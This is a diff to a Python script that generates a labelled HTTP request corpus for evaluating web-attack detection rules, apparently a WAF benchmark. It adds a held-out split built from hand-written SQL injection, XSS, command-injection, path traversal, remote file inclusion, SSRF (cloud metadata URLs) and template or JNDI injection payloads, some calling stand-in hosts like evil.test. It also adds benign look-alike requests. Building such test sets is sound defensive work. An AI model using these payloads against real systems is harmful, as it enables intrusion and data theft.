@@ -13,6 +13,13 @@ Deterministic (fixed seeds). Attack payloads are read at run time from Debian pa
     wfuzz   /usr/share/wfuzz/wordlist/{Injections,vulns}        (DEV; dirTraversal lists split 50/50)
     sqlmap  /usr/share/sqlmap/data/xml/{payloads,boundaries}    (DEV: plain; HELD: tamper scripts)
     wapiti  wapitiCore/data/attacks/*                           (HELD: sqli, xss, cmdi, lfi, rfi)
+NEW held-out split ("new", written after the first two splits were measured, before measuring it;
+no rule was changed after its first measurement):
+    wfuzz   vulns/sql_inj.txt, Injections/All_attack.txt (lines with a tag or script: xss)
+    modsecurity-crs  scanners-user-agents.data (scanner), lfi-os-files.data (traversal targets),
+                     unix-shell.data + windows-powershell-commands.data (cmdi commands)
+    hand-written payloads in other syntaxes (templates C below): sqli per DBMS, xss, cmdi
+    separators, traversal prefixes, rfi, ssrf, ssti; benign templates C
 Categories without a Debian payload source (cmdi DEV, rfi DEV, ssrf, ssti/jndi, scanner) come from
 the generators below; their HELD sets use different templates, written before the rules.
 """
@@ -30,6 +37,7 @@ import xml.etree.ElementTree as ET
 WFUZZ = "/usr/share/wfuzz/wordlist"
 SQLMAP = "/usr/share/sqlmap"
 WAPITI = "/usr/lib/python3/dist-packages/wapitiCore/data/attacks"
+CRS = "/usr/share/modsecurity-crs/rules"
 
 HOSTS = ["shop.example.com", "www.example.org", "api.example.net", "intranet.example.com"]
 UAS = [
@@ -500,6 +508,135 @@ def benign_request(rnd, held):
     return request("GET", rnd.choice(STATIC_B if held else STATIC_A), host, ua, hdrs)
 
 
+# ---------------------------------------------------------------- NEW held-out split (templates C)
+
+SQLI_C = [
+    "1' AND 1=CONVERT(int,(SELECT @@version))--", "1';WAITFOR DELAY '0:0:5'--", "1);WAITFOR DELAY '00:00:05';--",
+    "x' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--", "1' AND 5=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
+    "1'||(SELECT pg_sleep(5))||'", "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "1';SELECT pg_sleep(5);--",
+    "1' AND 1=randomblob(500000000)--", "1' AND sqlite_version()=sqlite_version()--",
+    "' OR 1=1 LIMIT 1 -- -", "admin' #", "admin')-- -", "') OR ('x'='x", "1 OR 1=1", "-1 OR 3>2",
+    "1' ORDER BY 10-- -", "1' GROUP BY 1,2,3-- -", "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -",
+    "1 UNION/**/SELECT/**/NULL,NULL--", "1'/**/oR/**/'1'/**/=/**/'1", "1' AnD SlEeP(5)#", "1%27%20or%20%271%27%3D%271",
+    "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
+    "'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--", "1; DROP TABLE users--", "1'; INSERT INTO users VALUES('x','y')--",
+    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
+    "' UNION ALL SELECT NULL,NULL,NULL FROM DUAL--", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
+    "1' AND 1=1 AND '%'='", "' or ''='", "\" or \"\"=\"", "1' || '1'='1", "x' OR name LIKE '%", "1 and true",
+    "{\"$where\": \"sleep(5000)\"}", "1' AND BENCHMARK(5000000,MD5(1))#", "' HAVING 1=1--", "1 AND ROW(1,1)>(SELECT COUNT(*),1)",
+]
+XSS_C = [
+    "<svg/onload=alert(1)>", "<img src=x onerror=alert`1`>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>",
+    "\"><iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<math><mtext><img src=x onerror=alert(1)>",
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<input autofocus onfocus=alert(1)>", "'-alert(1)-'", "\";alert(document.domain);//", "<scr<script>ipt>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<video><source onerror=\"alert(1)\">",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<marquee onstart=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<style>@import 'http://203.0.113.9/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">", "<form action=javascript:alert(1)><input type=submit>",
+    "<base href=\"javascript:alert(1)//\">", "<embed src=javascript:alert(1)>", "<x onclick=alert(1)>click", "\"><img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
+]
+CMDI_SEPS_C = [";", "|", "||", "&&", "&", "%0a", "\n", "$(%s)", "`%s`", ";%s;", "| %s #", "\r\n"]
+TRAV_PREFIX_C = ["../../../", "../../../../../../", "..%2f..%2f..%2f", "%2e%2e/%2e%2e/%2e%2e/", "..\\..\\..\\", "....//....//....//",
+                 "%252e%252e%252f%252e%252e%252f", "..%c0%af..%c0%af..%c0%af", "/..%2f..%2f..%2f", "..%5c..%5c..%5c",
+                 "%2e%2e%5c%2e%2e%5c", "..;/..;/..;/", "/var/www/../../../", "file/../../../../"]
+RFI_C = ["http://203.0.113.77/shell.txt?", "https://paste.attacker.test/raw/abc.php", "ftp://198.51.100.4/pub/inc.txt",
+         "http://evil.test/x.jpg%00", "//203.0.113.5/share/c.php", "hTtP://evil.test/r.txt??", "http://user:pw@evil.test/c99.txt",
+         "https://evil.test:8443/sh.php?cmd=id", "http://198.51.100.9/", "\\\\203.0.113.5\\share\\x.php"]
+SSRF_C = ["http://127.0.0.1:8080/actuator/env", "http://localhost/server-status", "http://[::]:22/", "http://0/", "http://127.0.0.1.nip.io/",
+          "http://169.254.169.254/latest/user-data", "http://0251.0376.0251.0376/", "http://0xa9fea9fe/", "http://2852039166/latest/meta-data/",
+          "gopher://localhost:25/_HELO", "dict://localhost:6379/info", "file:///proc/self/environ", "http://internal.corp.local/admin",
+          "http://10.0.0.1:2379/v2/keys", "https://172.31.255.1/", "http://[fd00::1]/", "http://metadata.google.internal/computeMetadata/v1/instance/",
+          "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://127.127.127.127/", "ldap://localhost:389/"]
+SSTI_C = ["{{7*'7'}}", "{{ config.items() }}", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
+          "${7*7}", "#{7*7}", "<%= system('id') %>", "{php}echo `id`;{/php}", "{{request|attr('application')}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
+          "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
+          "${jndi:ldap://203.0.113.5/a}", "${${lower:jndi}:${lower:rmi}://x.test/a}", "${${::-j}ndi:dns://x.test/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.test/}",
+          "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "@{7*7}", "[[${7*7}]]", "{{=7*7}}", "${{7*7}}", "#set($e=\"e\")$e.getClass()"]
+
+
+def crs_lines(name):
+    return [l.strip() for l in lines_of(CRS + "/" + name) if l.strip()]
+
+
+def attack_corpus_new(seed):
+    rnd = random.Random(seed)
+    cats = {}
+    pos_std = ["query", "query", "form", "json", "cookie"]
+    sq = [(p, True) for p in lines_of(WFUZZ + "/vulns/sql_inj.txt")] + [(p, False) for p in SQLI_C] * 3
+    cats["sqli"] = [place(p, w, rnd, pos_std + ["header"]) for p, w in sq]
+    xs = [(p, True) for p in lines_of(WFUZZ + "/Injections/All_attack.txt")
+          if re.search(r"(?i)<\s*[a-z!/?]|javascript|script", p)] + [(p, False) for p in XSS_C] * 2
+    cats["xss"] = [place(p, w, rnd, pos_std) for p, w in xs]
+    cm = []
+    unix = [c for c in crs_lines("unix-shell.data") if not c.startswith("$")]
+    ps = crs_lines("windows-powershell-commands.data")
+    for _ in range(300):
+        if rnd.random() < 0.65:
+            c = "/" + rnd.choice(unix) + rnd.choice(["", " -a", " /etc/hosts", " 203.0.113.9", " -la /tmp"])
+        else:
+            c = rnd.choice(["powershell ", "powershell.exe -c ", "cmd /c powershell "]) + rnd.choice(ps)
+        sep = rnd.choice(CMDI_SEPS_C)
+        v = rnd.choice(["127.0.0.1", "x", "1", ""])
+        cm.append((v + (sep % c if "%s" in sep else sep + c), False))
+    cats["cmdi"] = [place(p, w, rnd, pos_std) for p, w in cm]
+    lfi = crs_lines("lfi-os-files.data")
+    tr = []
+    for f in rnd.sample(lfi, 250):
+        pre = rnd.choice(TRAV_PREFIX_C)
+        tr.append((pre + f.lstrip("/").replace("/", "\\" if "\\" in pre else "/"), True))
+    cats["traversal"] = [place(p, w, rnd, ["query", "query", "form", "json", "cookie", "path"]) for p, w in tr]
+    cats["rfi"] = [place(rnd.choice(RFI_C), False, rnd, ["query", "query", "form", "json"]) for _ in range(150)]
+    cats["ssrf"] = [place(rnd.choice(SSRF_C), False, rnd, ["query", "query", "form", "json"]) for _ in range(200)]
+    cats["ssti"] = [place(rnd.choice(SSTI_C), False, rnd, pos_std + ["header"]) for _ in range(200)]
+    uas = crs_lines("scanners-user-agents.data")
+    cats["scanner"] = [request("GET", rnd.choice(["/", "/login", "/index.php?id=1", "/wp-login.php"]), rnd.choice(HOSTS),
+                               rnd.choice(["%s", "Mozilla/5.0 (compatible; %s)", "%s/1.0"]) % u) for u in uas]
+    return cats
+
+
+PHRASES_C = ["Where's the union meeting tonight?", "I can't select more than 3 items", "Drop me a line at the office",
+             "Best way to 'order by' date in Excel?", "Tom & Jerry's \"greatest\" hits", "1 or 2 tickets please",
+             "Is it 5' 10\" or 5' 11\"?", "and/or clause in contracts", "script for the school play (draft 2)",
+             "How do I exec a cron job daily?", "Rock 'n' roll", "Ben & Jerry's", "C:/Users/me/Documents is full",
+             "The year 1999: a review", "What does 1=1 mean in logic?", "sleep(8 hours) for kids", "ping me when ready",
+             "x < y and y > z", "Q&A: what's new in v2.3?", "50/50 chance; we'll see"]
+
+
+def benign_request_c(rnd):
+    host = rnd.choice(["www.example.org", "shop.example.com", "docs.example.net"])
+    ua = rnd.choice(UAS)
+    hdrs = ["Cookie: sid=%s; lang=en" % base64.urlsafe_b64encode(rnd.randbytes(15)).decode(),
+            "Accept-Language: de-DE,de;q=0.8,en;q=0.5", "Referer: https://%s/%s" % (host, rnd.choice(["", "docs/", "cart?step=2"]))]
+    k = rnd.random()
+    if k < 0.25:  # GraphQL
+        q = rnd.choice(["query { user(id: %d) { name email } }", "query Posts { posts(first: %d) { edges { node { title } } } }",
+                        "mutation { addComment(postId: %d, text: \"Nice one, O'Hara!\") { id } }"]) % rnd.randint(1, 500)
+        return request("POST", "/graphql", host, ua, hdrs, json.dumps({"query": q, "variables": {}}), "application/json")
+    if k < 0.45:  # search with prose
+        params = {"q": rnd.choice(PHRASES_C), "page": str(rnd.randint(1, 9))}
+        return request("GET", rnd.choice(["/search", "/kb/search", "/forum"]) + "?" + urllib.parse.urlencode(params), host, ua, hdrs)
+    if k < 0.6:  # markdown / HTML comment
+        body = urllib.parse.urlencode({"title": rnd.choice(PHRASES_C), "body": rnd.choice([
+            "Use `SELECT name FROM t WHERE id = ?` with bound parameters, never string concatenation.",
+            "<p>Thanks! <em>Really</em> helpful.</p><br><a href=\"https://www.debian.org/\">Debian</a>",
+            "Run `ls -la` then `cat notes.txt` to check.", "1. Open the menu\n2. Select *Export*\n3. Done",
+            "Price: 10 < 20; discount & tax included", "See ../docs/setup.md in the repo"])})
+        return request("POST", "/posts/new", host, ua, hdrs, body, "application/x-www-form-urlencoded")
+    if k < 0.75:  # JSON API
+        doc = {"name": rnd.choice(NAMES), "note": rnd.choice(PHRASES_C), "homepage": rnd.choice(SITES),
+               "items": [{"sku": "A-%d" % rnd.randint(100, 999), "qty": rnd.randint(1, 5)}], "coupon": rnd.choice(["", "SPRING-10", "5OFF"])}
+        return request("POST", "/api/v2/orders", host, ua, hdrs + ["X-Request-ID: %s" % rnd.randbytes(8).hex()], json.dumps(doc), "application/json")
+    if k < 0.85:  # paths that normalise inside the docroot
+        return request("GET", rnd.choice(["/docs/v2/../v3/index.html", "/img/./icons/../logo.svg", "/a/b/c/../../d.css",
+                                          "/files/report%202024.pdf", "/shop/items/12/../13", "/en/faq?topic=billing&lang=en-US"]), host, ua, hdrs)
+    # upload
+    bnd = "----b%d" % rnd.randint(10 ** 6, 10 ** 7)
+    data = rnd.choice(["select,union,drop\n1,2,3\n", "#!/bin/sh\necho hello\n", "<html><body><b>hi</b></body></html>\n", "O'Reilly; Smith & Co.\n"])
+    body = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"up.txt\"\r\nContent-Type: text/plain\r\n\r\n%s\r\n--%s--\r\n"
+            % (bnd, data, bnd))
+    return request("POST", "/upload", host, ua, hdrs, body, "multipart/form-data; boundary=" + bnd)
+
+
 # ---------------------------------------------------------------- egress corpora
 
 def response(body, ctype="text/html; charset=utf-8", status="200 OK"):
@@ -614,6 +751,13 @@ def main():
                 write("%s/egress/%s/%s/%05d.http" % (out, split, cat, i), r)
         for i, r in enumerate(ben):
             write("%s/egress_benign/%s/%05d.http" % (out, split, i), r)
+    if os.path.isdir(CRS):
+        for cat, reqs in attack_corpus_new(3003).items():
+            for i, r in enumerate(reqs):
+                write("%s/attack/new/%s/%05d.http" % (out, "" + cat, i), r)
+        rnd = random.Random(3010)
+        for i in range(2000):
+            write("%s/benign/new/%05d.http" % (out, i), benign_request_c(rnd))
 
 
 if __name__ == "__main__":
